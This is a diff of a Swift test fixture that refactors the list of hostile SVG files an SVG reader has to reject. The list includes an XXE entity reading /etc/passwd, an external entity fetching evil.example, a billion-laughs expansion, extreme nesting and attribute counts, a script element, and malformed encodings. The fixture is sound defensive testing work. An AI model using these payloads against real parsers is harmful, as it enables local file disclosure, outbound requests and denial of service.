@@ -63,37 +63,92 @@ enum HostileDrawings {
     "stroke:URL(HTTPS://EVIL.EXAMPLE/)", "fill:url( # )", "fill:attr(href)", "animation:x 1s", "transition:all 1s",
   ]
 
-  /// Whole files that no reader should let through.
-  static let files: [[UInt8]] = {
-    let root = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\">"
-    let lol = (1...9).map { "<!ENTITY l\($0) \"\(String(repeating: "&l\($0 - 1);", count: 10))\">" }.joined()
-    let texts = [
-      "<!DOCTYPE svg>\(root)</svg>", "<!doctype svg>\(root)</svg>",
-      "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\(root)</svg>",
-      "<!DOCTYPE svg [<!ENTITY l0 \"lol\">\(lol)]>\(root)<text>&l9;</text></svg>",
-      "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\(root)<text>&x;</text></svg>",
-      "<!DOCTYPE svg [<!ENTITY % x SYSTEM \"https://evil.example/\">%x;]>\(root)</svg>",
-      "\(root)<text>&x;</text></svg>", "\(root)<text>&nbsp;</text></svg>", "\(root)<text>&#0;</text></svg>",
-      "\(root)<text>&#xD800;</text></svg>", "\(root)<text>&#x110000;</text></svg>", "\(root)<text>&#99999999999;</text></svg>",
-      "\(root)<text>&amp</text></svg>", "\(root)<text>&#;</text></svg>", "\(root)<text>&#x;</text></svg>",
-      "\(root)<text>&#-1;</text></svg>", "\(root)<text>&#+65;</text></svg>", "\(root)<![IGNORE[x]]></svg>",
-      "\(root)</svg><script/>", "\(root)</svg>x", "x\(root)</svg>", "\(root)<g></svg></g>", "\(root)<g a=\"1\" a=\"2\"/></svg>",
-      "\(root)<g a='<'/></svg>", "\(root)<g a=1/></svg>", "\(root)<g a/></svg>", "\(root)<g a=\"1\"b=\"2\"/></svg>",
-      "\(root)<x:g/></svg>", "\(root)<g x:a=\"1\"/></svg>", "\(root)<:g/></svg>", "\(root)<g:/></svg>", "\(root)<a:b:c/></svg>",
-      "\(root)<g xmlns:xml=\"urn:x\"/></svg>", "\(root)<g xmlns:p=\"\"/></svg>", "\(root)< g/></svg>", "\(root)<1/></svg>",
-      "\(root)\u{1}</svg>", "\(root)<g a=\"\u{2}\"/></svg>", "\(root)<![CDATA[\u{3}]]></svg>", "<svg", "<", "<svg viewBox=\"0 0 1 1\"",
-      "\(root)<!-- </svg>", "\(root)<![CDATA[ </svg>", "<?xml version=\"1.0\"", "\(root)</svg", "", " ",
-      "<?xml version=\"1.0\" encoding=\"Shift_JIS\"?>\(root)</svg>", "<?xml version=\"1.0\" encoding='UTF-7'?>\(root)</svg>",
-      "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\(root)</svg>", "\(root)" + String(repeating: "<g>", count: 100_000),
+  private static let root = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\">"
+
+  /// Files of which no reader should let one through, one a line; `¤` stands for the root element, `␀1` for U+0001.
+  private static let lines = #"""
+    <!DOCTYPE svg>¤</svg>
+    <!doctype svg>¤</svg>
+    <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">¤</svg>
+    <!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>¤<text>&x;</text></svg>
+    <!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/">%x;]>¤</svg>
+    ¤<text>&x;</text></svg>
+    ¤<text>&nbsp;</text></svg>
+    ¤<text>&#0;</text></svg>
+    ¤<text>&#xD800;</text></svg>
+    ¤<text>&#x110000;</text></svg>
+    ¤<text>&#99999999999;</text></svg>
+    ¤<text>&amp</text></svg>
+    ¤<text>&#;</text></svg>
+    ¤<text>&#x;</text></svg>
+    ¤<text>&#-1;</text></svg>
+    ¤<text>&#+65;</text></svg>
+    ¤<![IGNORE[x]]></svg>
+    ¤</svg><script/>
+    ¤</svg>x
+    x¤</svg>
+    ¤<g></svg></g>
+    ¤<g a="1" a="2"/></svg>
+    ¤<g a='<'/></svg>
+    ¤<g a=1/></svg>
+    ¤<g a/></svg>
+    ¤<g a="1"b="2"/></svg>
+    ¤<x:g/></svg>
+    ¤<g x:a="1"/></svg>
+    ¤<:g/></svg>
+    ¤<g:/></svg>
+    ¤<a:b:c/></svg>
+    ¤<g xmlns:xml="urn:x"/></svg>
+    ¤<g xmlns:p=""/></svg>
+    ¤< g/></svg>
+    ¤<1/></svg>
+    ¤␀1</svg>
+    ¤<g a="␀2"/></svg>
+    ¤<![CDATA[␀3]]></svg>
+    <svg
+    <
+    <svg viewBox="0 0 1 1"
+    ¤<!-- </svg>
+    ¤<![CDATA[ </svg>
+    <?xml version="1.0"
+    ¤</svg
+    <?xml version="1.0" encoding="Shift_JIS"?>¤</svg>
+    <?xml version="1.0" encoding='UTF-7'?>¤</svg>
+    <?xml version="1.0" encoding="UTF-16"?>¤</svg>
+    ¤
+    <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e9 1e9"/>
+    <svg viewBox="0 0 -1 1"/>
+    """#
+
+  /// Files that are too much: expanding, deep, wide.
+  private static let excessive: [String] = {
+    let entities: [String] = (1...9).map { level in
+      "<!ENTITY l\(level) \"" + String(repeating: "&l\(level - 1);", count: 10) + "\">"
+    }
+    let attributes: [String] = (0..<300).map { "a\($0)=\"1\"" }
+    let laughs = "<!DOCTYPE svg [<!ENTITY l0 \"lol\">" + entities.joined() + "]>"
+    return [
+      laughs + root + "<text>&l9;</text></svg>",
+      root + String(repeating: "<g>", count: 100_000),
       root + String(repeating: "<g>", count: 60) + String(repeating: "</g>", count: 60) + "</svg>",
       root + String(repeating: "<g/>", count: 60_000) + "</svg>",
-      root + "<g " + (0..<300).map { "a\($0)=\"1\"" }.joined(separator: " ") + "/></svg>",
-      "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1e9 1e9\"/>", "<svg viewBox=\"0 0 -1 1\"/>",
+      root + "<g " + attributes.joined(separator: " ") + "/></svg>",
     ]
-    let wide = texts.prefix(1).flatMap { text in
-      [[0xFF, 0xFE] + text.utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }, text.utf16.flatMap { [0, UInt8($0 & 255)] }]
+  }()
+
+  /// Whole files that no reader should let through.
+  static let files: [[UInt8]] = {
+    var files: [[UInt8]] = [[], [0x20]]
+    for line in lines.split(separator: "\n") {
+      var text = line.replacing("¤", with: root)
+      for number in 1...3 { text = text.replacing("␀\(number)", with: String(UnicodeScalar(UInt8(number)))) }
+      files.append(Array(text.utf8))
     }
-    let broken: [[UInt8]] = [Array(root.utf8) + [0xC0, 0xBC] + Array("</svg>".utf8), Array(root.utf8) + [0xFF, 0xFE]]
-    return texts.map { Array($0.utf8) } + wide + broken
+    for text in excessive { files.append(Array(text.utf8)) }
+    let whole = Array((root + "</svg>").utf8)
+    let little: [UInt8] = [0xFF, 0xFE] + whole.flatMap { [$0, 0] }
+    let big: [UInt8] = whole.flatMap { [0, $0] }
+    files += [little, big, Array(root.utf8) + [0xC0, 0xBC] + Array("</svg>".utf8), Array(root.utf8) + [0xFF, 0xFE]]
+    return files
   }()
 }
